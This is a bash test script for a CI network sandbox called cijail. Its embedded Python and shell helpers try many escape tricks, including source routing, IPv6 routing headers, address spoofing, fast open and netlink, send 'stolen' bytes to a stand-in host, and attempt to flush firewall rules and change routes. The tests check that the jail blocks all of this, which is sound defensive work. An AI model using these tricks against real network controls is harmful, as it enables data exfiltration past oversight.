#!/usr/bin/env bash
# Packets of the jail other than plain ones, and the rules of its network. More: e2e/06-deny.sh, e2e/11-transparent.sh.
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"
export CIJAIL_ENDPOINTS=https://registry.example/pkg/

t_case 'raw and packet sockets, also with a user namespace over which one is root'
cat >raw.py <<'END'
import errno, socket
def attempt(name, f):
    try: f(); print(name, "ok")
    except OSError as e: print(name, errno.errorcode.get(e.errno, e))
def option(level, name, value, kind=socket.SOCK_DGRAM):
    socket.socket(socket.AF_INET, kind).setsockopt(level, name, value)
for family in socket.AF_INET, socket.AF_INET6:
    for protocol in 1, 58, 255, 132, 89:
        attempt(f"raw-{family}-{protocol}", lambda: socket.socket(family, socket.SOCK_RAW, protocol))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x300))
attempt("mark", lambda: option(socket.SOL_SOCKET, 36, 1))
attempt("transparent", lambda: option(socket.IPPROTO_IP, 19, 1))
attempt("priority", lambda: option(socket.SOL_SOCKET, 12, 7))
attempt("force-buffer", lambda: option(socket.SOL_SOCKET, 33, 1 << 20))
END
for nested in '' 'unshare -Ur' 'bwrap --bind / / --dev /dev --unshare-user --uid 0'; do
    # shellcheck disable=SC2086
    run cijail -- $nested python3 raw.py
    t_count 15 "$out" ' (EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT)$'
    t_no_match "$out" ' ok$'
done
run cijail -- unshare -Urn python3 raw.py
t_match "$out" '^raw-2-255 ok$' # the twin: in a network of one's own

t_case 'every trick of a socket that needs no privilege: nothing leaves, and the build goes on'
cat >tricks.py <<'END'
import ctypes, errno, os, socket, struct, subprocess
libc = ctypes.CDLL(None)
V4, V6, UDP, TCP = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_STREAM
there = {V4: "198.51.100.66", V6: "2001:db8:10::66"}
gateway = {V4: "192.0.0.1", V6: "fd63:696a:6169:6c::1"}
def attempt(name, f):
    try: r = f(); print(name, "done", r or "")
    except (OSError, subprocess.SubprocessError) as e: print(name, errno.errorcode.get(getattr(e, "errno", 0), e))
def new(family, kind, protocol=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(0.2)
    return s
def send(s, to, data=b"stolen"):
    s.sendto(data, to)
    try: return s.recv(100)
    except socket.timeout: return None
def lsrr(kind):  # loose and strict source routing by the gateway
    for option in 131, 137:
        s = new(V4, kind)
        s.setsockopt(socket.IPPROTO_IP, 4, bytes([option, 7, 4]) + socket.inet_aton(there[V4]) + b"\0")
        if kind == UDP: send(s, (gateway[V4], 53))
        else: s.connect((gateway[V4], 3128))
def option(value):
    s = new(V4, UDP); s.setsockopt(socket.IPPROTO_IP, 4, value); send(s, (there[V4], 80))
def routing_header(kind):
    s = new(V6, UDP)
    header = bytes([0, 2, kind, 1, 0, 0, 0, 0]) + socket.inet_pton(V6, there[V6])
    s.setsockopt(socket.IPPROTO_IPV6, 57, header)
    send(s, (gateway[V6], 53))
def hop_by_hop(name):
    s = new(V6, UDP); s.setsockopt(socket.IPPROTO_IPV6, name, bytes([0, 0, 1, 4, 0, 0, 0, 0])); send(s, (there[V6], 80))
def spoof(family, address):
    s = new(family, UDP)
    s.setsockopt(*((socket.IPPROTO_IP, 15, 1) if family == V4 else (socket.IPPROTO_IPV6, 78, 1)))  # FREEBIND
    s.bind((address, 0)); send(s, (there[family], 80))
def fragments(family, to, port):
    s = new(family, UDP); return send(s, (to, port), os.urandom(6000))
def fast_open(family):
    s = socket.socket(family, TCP); s.sendto(b"stolen", 0x20000000, (there[family], 999))
def unspec(family, kind):  # connect(2): "dissolve the association", and then another one, by the same socket
    s = new(family, kind); s.connect((gateway[family], 53 if kind == UDP else 3128))
    print("dissolved", libc.connect(s.fileno(), bytes(28), 28))
    if kind == UDP: return send(s, (there[family], 80))
    s.connect((there[family], 999))
def other_address(family, flags):  # of a connection that is there
    s = new(family, TCP); s.connect((gateway[family], 3128))
    try: s.sendmsg([b"stolen"], [], flags, (there[family], 999))
    finally: s.shutdown(socket.SHUT_RDWR)
    s.sendto(b"stolen", flags, (there[family], 999))
def own_head():  # IPV6_HDRINCL
    s = new(V6, UDP); s.setsockopt(socket.IPPROTO_IPV6, 36, 1); send(s, (there[V6], 80))
def from_port(family, port, to):
    s = new(family, UDP); s.bind(("", port)); send(s, (there[family], to))
def protocol(family, kind, number):
    s = new(family, kind, number)
    s.connect((there[family], 443)); s.send(b"stolen")
def errors(family):  # ICMP errors of one's own making: a port that is closed answers the gateway
    s = new(family, UDP); s.bind(("", 5353)); s.connect((gateway[family], 53)); s.send(b"x" * 12); s.close()
def device(family):
    s = new(family, UDP); s.setsockopt(socket.SOL_SOCKET, 25, b"jail0\0"); send(s, (there[family], 80))
attempt("lsrr udp", lambda: lsrr(UDP)); attempt("lsrr tcp", lambda: lsrr(TCP))
attempt("record route", lambda: option(b"\x07\x07\x04\0\0\0\0\0")); attempt("router alert", lambda: option(b"\x94\x04\0\0"))
for kind in 0, 2, 3, 4: attempt(f"routing header {kind}", lambda: routing_header(kind))
for name in 54, 59, 55: attempt(f"extension header {name}", lambda: hop_by_hop(name))
for family, addresses in ((V4, ("192.0.2.10", "127.0.0.1", "192.0.0.1", "198.51.100.10")), (V6, ("2001:db8:0:2::10", "::1", "2001:db8:10::10"))):
    for address in addresses: attempt(f"from {address}", lambda: spoof(family, address))
    attempt("fragments", lambda: fragments(family, there[family], 80))
    attempt("fragments to the gateway", lambda: fragments(family, gateway[family], 53))
    attempt("fast open", lambda: fast_open(family))
    attempt("device", lambda: device(family))
    for kind in UDP, TCP: attempt(f"AF_UNSPEC {kind}", lambda: unspec(family, kind))
    for flags in 0, 0x20000000: attempt(f"other address {flags}", lambda: other_address(family, flags))
    for port, to in (53, 53), (3128, 80), (3129, 443), (53, 12345): attempt(f"from port {port}", lambda: from_port(family, port, to))
    for kind, number in (TCP, 132), (5, 132), (6, 33), (UDP, 136), (TCP, 262): attempt(f"protocol {number}", lambda: protocol(family, kind, number))
    attempt("late answers", lambda: errors(family))
attempt("own head", own_head)
print(subprocess.run(["curl", "-sS", "-m", "20", "https://registry.example/pkg/lodash"], stdout=subprocess.PIPE, text=True).stdout, end="")
END
wire_start
run cijail -q -- python3 tricks.py
wire_stop
t_match "$out" '^a package$'
t_match "$out" '^fast open ENETUNREACH$'
t_count 4 "$out" '^dissolved 0$'
t_no_match "$(grep -v 'to the gateway' <<<"$out")" "done b'"
t_no_match "$WIRE" '(198\.51\.100\.66|2001:db8:10::66)'
t_no_match "$WIRE" '> [0-9a-f.:]+\.(80|999|3128|12345|5353): '
t_no_match "$WIRE" ICMP

t_case 'the twin: without a jail, the same are seen on the wire'
wire_start
run python3 tricks.py
wire_stop
t_match "$WIRE" '> 198\.51\.100\.66\.999: Flags \[S\]'
t_match "$WIRE" '> 2001:db8:10::66\.80: UDP'

t_case 'rules, links, routes and neighbours cannot be changed from inside, nor from a namespace in it'
cat >change.sh <<'END'
for c in "nft flush ruleset" "nft add table inet x" "nft list tables" "nft delete table inet cijail" "ip link set jail0 netns 1" \
    "ip link set jail0 address 02:00:00:00:00:01" "ip link set jail0 mtu 9000" "ip link set jail0 promisc on" "ip route add 10.9.0.0/16 dev jail0" \
    "ip route replace default dev jail0" "ip rule add from all table 7" "ip neigh add 192.0.0.3 lladdr 02:00:00:00:00:02 dev jail0" \
    "ip neigh replace 192.0.0.1 lladdr 02:00:00:00:00:02 dev jail0" "ip address add 192.0.0.1/32 dev jail0" "ip link add link jail0 name m type macvlan" \
    "ip link add v type veth peer name w" "ip tunnel add t mode gre remote 198.51.100.66" "ip xfrm state flush" "tc qdisc add dev jail0 root netem" \
    "ip netns exec x true" "sysctl -w net.ipv4.conf.all.accept_source_route=1" "sysctl -w net.ipv6.conf.jail0.accept_ra=2"; do
    $c >/dev/null 2>&1 && echo "done: $c"
done
python3 "$T_LIB/connect.py" tcp 198.51.100.66 22
END
export T_LIB
for nested in '' 'unshare -Ur' 'unshare -Urm'; do
    # shellcheck disable=SC2086
    run cijail -- $nested sh change.sh
    t_match "$out" '^ENETUNREACH [0-9]+$'
    t_no_match "$out" '^done'
done
run cijail -- unshare -Urn sh -c 'ip link set lo up && nft add table inet x && nft flush ruleset && ip link add v type veth peer name w && echo own'
t_eq "$out" own # the twin
run cijail -- sh -c 'unshare -Urn nft flush ruleset; unshare -Ur nft flush ruleset; python3 "$T_LIB/connect.py" tcp 198.51.100.66 22; curl -sS https://registry.example/pkg/lodash'
t_match "$out" '^ENETUNREACH'
t_match "$out" '^a package$'

t_case 'netlink: no other process, no group by connect(2), no queue, no table of connections'
cat >netlink.py <<'END'
import ctypes, errno, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
def connect(name, protocol, pid, groups, family=16):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
    r = libc.connect(s.fileno(), struct.pack("HHII", family, 0, pid, groups), 12)
    print(name, protocol, "ok" if r == 0 else errno.errorcode[ctypes.get_errno()])
def request(name, subsystem, kind, payload, flags=5):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    s.settimeout(1)
    s.bind((0, 0))
    body = payload
    s.send(struct.pack("IHHII", 16 + len(body), subsystem << 8 | kind, flags, 1, 0) + body)
    try:
        answer = s.recv(4096)
        kind, = struct.unpack("H", answer[4:6])
        code = -struct.unpack("i", answer[16:20])[0] if kind == 2 else 0
        print(name, "ok" if code == 0 and kind == 2 or kind > 2 else errno.errorcode.get(code, code))
    except socket.timeout: print(name, "silence")
    except OSError as e: print(name, errno.errorcode[e.errno])
for protocol in [0, 12] + [int(a) for a in sys.argv[1:]]:
    connect("kernel", protocol, 0, 0)
    connect("unspec", protocol, 7, 7, 0)
    for pid in 1, os.getpid(), os.getppid(), 0xffffffff: connect("pid", protocol, pid, 0)
    for group in 1, 0xffffffff, 1 << 31: connect("group", protocol, 0, group)
    connect("both", protocol, 1, 1)
generic = struct.pack("BBH", 2, 0, 0)
request("conntrack", 1, 1, generic, 0x301)
request("log bind", 4, 1, struct.pack("BBH", 0, 0, 0) + struct.pack("HHB3x", 8, 1, 3))
request("log group", 4, 1, struct.pack("BBH", 0, 0, socket.htons(1)) + struct.pack("HHB3x", 8, 1, 1))
request("queue", 3, 2, struct.pack("BBH", 0, 0, 0) + struct.pack("HHBxH", 8, 1, 1, 0))
request("nft tables", 10, 1, struct.pack("BBH", 1, 0, 0), 0x301)
END
for nested in '' 'unshare -Ur'; do
    # shellcheck disable=SC2086
    run cijail -- $nested python3 netlink.py
    t_count 2 "$out" '^kernel [0-9]+ ok$'
    t_count 2 "$out" '^unspec [0-9]+ ok$'
    t_count 16 "$out" '^(pid|group|both) [0-9]+ EPERM$'
    t_no_match "$out" '^(pid|group|both|conntrack|log bind|log group|queue|nft tables) .*ok$'
done
run cijail -e '[netlink]' -- python3 netlink.py 15 16 9
t_count 40 "$out" '^(pid|group|both) [0-9]+ EPERM$'
t_count 5 "$out" '^kernel [0-9]+ ok$'

t_done
